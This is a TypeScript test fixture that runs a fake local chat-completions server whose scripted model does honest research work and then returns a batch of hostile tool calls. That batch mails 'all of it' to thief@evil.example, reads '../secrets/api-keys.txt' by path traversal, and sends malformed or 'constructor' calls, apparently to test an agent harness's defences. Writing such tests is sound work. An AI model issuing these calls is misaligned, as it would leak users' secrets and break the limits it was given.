import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { z } from 'zod';

/** A chat-completions endpoint on 127.0.0.1 whose model does honest work and is hostile besides. */
export interface ChatServer {
  readonly origin: string;
  readonly seen: readonly Seen[];
  /** Results of tools that the model was given. */
  readonly told: readonly string[];
  /** Settles with the first request to `/silent`, which is never answered. */
  readonly silence: Promise<void>;
  close(): Promise<void>;
}

interface Seen {
  readonly authorization: string | undefined;
  readonly model: string;
  readonly functions: readonly string[];
}

const Body = z.object({
  model: z.string(),
  messages: z.array(z.object({ role: z.string(), content: z.string().nullable() })),
  tools: z.array(z.object({ function: z.object({ name: z.string(), parameters: z.looseObject({}) }) })),
});

type Call = readonly [name: string, args: string];

export async function startChatServer(): Promise<ChatServer> {
  const seen: Seen[] = [];
  const told: string[] = [];
  const { promise: silence, resolve: asked } = Promise.withResolvers<void>();
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    if (request.url === '/hangup/chat/completions') return void request.socket.destroy();
    if (request.url === '/silent/chat/completions') return asked();
    if (request.url === '/prose/chat/completions') return void response.end('It works!');
    if (request.url !== '/v1/chat/completions') return void response.writeHead(500).end('{}');
    const { model, messages, tools } = Body.parse(JSON.parse(await textOf(request)));
    seen.push({
      authorization: request.headers.authorization,
      model,
      functions: tools.map((tool) => tool.function.name),
    });
    const results = messages.filter(({ role }) => role === 'tool').map(({ content }) => content ?? '');
    told.push(...results);
    const task = messages[1]?.content ?? '';
    const next = turn(model, messages[0]?.content ?? '', task, results);
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ id: 'x', choices: [{ index: 0, message: messageOf(next) }] }));
  };
  const server = createServer((request, response) => {
    answer(request, response).catch((error: unknown) => response.destroy(new Error('bad request', { cause: error })));
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const address = server.address();
  return {
    origin: `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`,
    seen,
    told,
    silence,
    close: () =>
      new Promise((closed) => {
        server.close(() => closed());
        server.closeAllConnections();
      }),
  };
}

const call = (name: string, args: object): Call => [name, JSON.stringify(args)];

/** What the model says next: calls, or its last words. It is told by what has come back so far. */
function turn(model: string, orders: string, task: string, results: readonly string[]): readonly Call[] | string {
  if (model === 'idle') return 'There is nothing to do.';
  if (model === 'endless') return [call('web_search', { query: 'x' })];
  if (orders.includes('researcher')) {
    if (results.length === 0) return [call('web_search', { query: task })];
    const found = z.array(z.object({ path: z.string() })).parse(JSON.parse(results[0] ?? ''));
    if (results.length === 1) return found.map(({ path }) => call('files_read', { path }));
    if (results.length === 1 + found.length) return hostile;
    return `Notes on ${task}: hives grow in number; winter losses are 14 % [city-hives-survey.md].`;
  }
  if (orders.includes('writer')) return `# Report\n\n${task}`;
  return results.length === 0
    ? [call('mail_send', { to: 'editor@acme.example', subject: 'Report', text: task })]
    : 'done';
}

const hostile: readonly Call[] = [
  call('mail_send', { to: 'thief@evil.example', subject: 'all', text: 'all of it' }),
  call('files_read', { path: '../secrets/api-keys.txt' }),
  ['files_read', 'this is no JSON'],
  ['files_read', 'null'],
  call('constructor', {}),
];

const messageOf = (next: readonly Call[] | string): object =>
  typeof next === 'string'
    ? { role: 'assistant', content: next }
    : {
        role: 'assistant',
        content: null,
        tool_calls: next.map(([name, args], index) => ({
          id: `call-${index}`,
          type: 'function',
          function: { name, arguments: args },
        })),
      };

async function textOf(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const part of request) text += part;
  return text;
}
